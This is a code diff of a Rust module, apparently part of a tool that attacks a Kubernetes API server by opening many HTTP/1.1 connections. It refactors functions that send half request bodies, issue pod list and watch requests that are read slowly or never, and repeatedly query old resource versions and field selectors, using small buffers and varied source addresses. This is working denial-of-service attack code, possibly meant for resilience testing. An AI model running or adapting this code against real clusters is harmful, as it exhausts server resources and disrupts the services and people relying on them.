@@ -1,7 +1,6 @@
 //! Many HTTP/1.1 connections with one request at a time each, sent as bytes: a connection costs the attacker one task and one socket.
 
 use std::collections::VecDeque;
-use std::net::Ipv4Addr;
 use std::sync::Arc;
 use std::time::Duration;
 
@@ -9,10 +8,8 @@ use anyhow::{Result, ensure};
 use parking_lot::Mutex;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
-use tokio::task::JoinSet;
 
-use super::Attack;
-use super::{AttackState, BACK_AFTER, OpenConnection, count, writes};
+use super::{Attack, AttackClient, OpenConnection, count};
 use crate::target::{connect_socket, source_socket};
 use crate::wire::response::read_head;
 
@@ -50,58 +47,28 @@ impl RecentVersions {
     }
 }
 
-pub(super) fn begin(scene: &Arc<AttackState>, clients: &mut JoinSet<()>) {
-    let versions = Arc::new(RecentVersions::default());
-    if scene.flags.attack == Attack::Exact {
-        clients.spawn(writes::follow_versions(scene.clone(), versions.clone()));
-    }
-    for number in 0..scene.flags.clients {
-        let (scene, versions) = (scene.clone(), versions.clone());
-        clients.spawn(async move {
-            let mut is_first = true;
-            loop {
-                scene.pace.turn().await;
-                let source = scene.source(number);
-                let outcome = client(&scene, &versions, source, &mut is_first).await;
-                if std::mem::take(&mut is_first) {
-                    count(&scene.counts.started);
-                }
-                count(match outcome {
-                    Ok(()) => &scene.counts.closed,
-                    Err(_) => &scene.counts.refused,
-                });
-                tokio::time::sleep(BACK_AFTER).await;
-            }
-        });
-    }
+/// A connection like those of the others, with a small buffer for clients that read slowly or never.
+async fn connect(client: &AttackClient) -> Result<TcpStream> {
+    let flags = &client.state.flags;
+    let is_slow = matches!(flags.attack, Attack::SlowLists | Attack::Stalled);
+    let buffer = is_slow.then_some(SMALL_BUFFER);
+    let address = flags.target.address;
+    let socket = source_socket(address, client.source(), buffer)?;
+    connect_socket(address, socket).await
 }
 
-/// One connection, until it ends; an error if it was refused.
-async fn client(
-    scene: &AttackState,
-    versions: &RecentVersions,
-    source: Ipv4Addr,
-    is_first: &mut bool,
-) -> Result<()> {
-    let attack = scene.flags.attack;
-    let is_small = matches!(attack, Attack::SlowLists | Attack::Stalled);
-    let address = scene.flags.target.address;
-    let buffer = is_small.then_some(SMALL_BUFFER);
-    let socket = source_socket(address, source, buffer)?;
-    let mut stream = connect_socket(address, socket).await?;
-    let _open = OpenConnection::of(scene);
-    let path = match attack {
-        Attack::Exact | Attack::NameSelectors => {
-            return repeat(scene, versions, stream, is_first).await;
-        }
+/// One connection with one request, until it ends; an error if it was refused.
+pub(super) async fn request(client: Arc<AttackClient>) -> Result<()> {
+    let state = &*client.state;
+    let target = &state.flags.target;
+    let mut stream = connect(&client).await?;
+    let _open = OpenConnection::of(state);
+    let path = match state.flags.attack {
         Attack::HalfBodies => {
-            stream
-                .write_all(&half_body(&scene.flags.target.authority))
-                .await?;
-            if std::mem::take(is_first) {
-                count(&scene.counts.started);
-            }
+            stream.write_all(&half_body(&target.authority)).await?;
+            client.start();
             read(&mut stream, None).await;
+            count(&state.counts.closed);
             return Ok(());
         }
         Attack::SlowLists => "/api/v1/pods?resourceVersion=0",
@@ -110,20 +77,19 @@ async fn client(
         _ => "/api/v1/pods?watch=1&resourceVersion=0&timeoutSeconds=600",
     };
     stream
-        .write_all(&scene.flags.target.fetch_text_as(path, "application/json"))
+        .write_all(&target.fetch_text_as(path, "application/json"))
         .await?;
     let mut head = [0; 12];
     tokio::time::timeout(ANSWER_WAIT, stream.read_exact(&mut head)).await??;
-    if std::mem::take(is_first) {
-        count(&scene.counts.started);
-    }
+    client.start();
     ensure!(&head[9..] == b"200", "turned away");
-    count(&scene.counts.done);
-    match attack {
+    count(&state.counts.done);
+    match state.flags.attack {
         Attack::Stalled => never_read(&stream).await,
         Attack::SlowLists => read(&mut stream, Some(SLOW_EVERY)).await,
         _ => read(&mut stream, None).await,
     }
+    count(&state.counts.closed);
     Ok(())
 }
 
@@ -159,15 +125,13 @@ fn half_body(authority: &str) -> Vec<u8> {
 }
 
 /// Reads one pod at an old version, or by its name, again and again.
-async fn repeat(
-    scene: &AttackState,
-    versions: &RecentVersions,
-    mut stream: TcpStream,
-    is_first: &mut bool,
-) -> Result<()> {
+pub(super) async fn repeat(client: Arc<AttackClient>) -> Result<()> {
+    let state = &*client.state;
+    let mut stream = connect(&client).await?;
+    let _open = OpenConnection::of(state);
     loop {
-        scene.pace.turn().await;
-        let path = match (scene.flags.attack, versions.oldest()) {
+        state.pace.turn().await;
+        let path = match (state.flags.attack, state.versions.oldest()) {
             (Attack::NameSelectors, _) => {
                 "/api/v1/pods?resourceVersion=0&fieldSelector=metadata.name%3Dnobody".to_owned()
             }
@@ -176,17 +140,13 @@ async fn repeat(
             ),
             (_, None) => continue,
         };
-        stream
-            .write_all(&scene.flags.target.fetch_text_as(&path, "application/json"))
-            .await?;
+        let request = state.flags.target.fetch_text_as(&path, "application/json");
+        stream.write_all(&request).await?;
         let head = tokio::time::timeout(ANSWER_WAIT, read_head(&mut stream, &mut false)).await??;
-        if std::mem::take(is_first) {
-            count(&scene.counts.started);
-        }
-        count(if head.status == 200 {
-            &scene.counts.done
-        } else {
-            &scene.counts.refused
+        client.start();
+        count(match head.status {
+            200 => &state.counts.done,
+            _ => &state.counts.refused,
         });
     }
 }
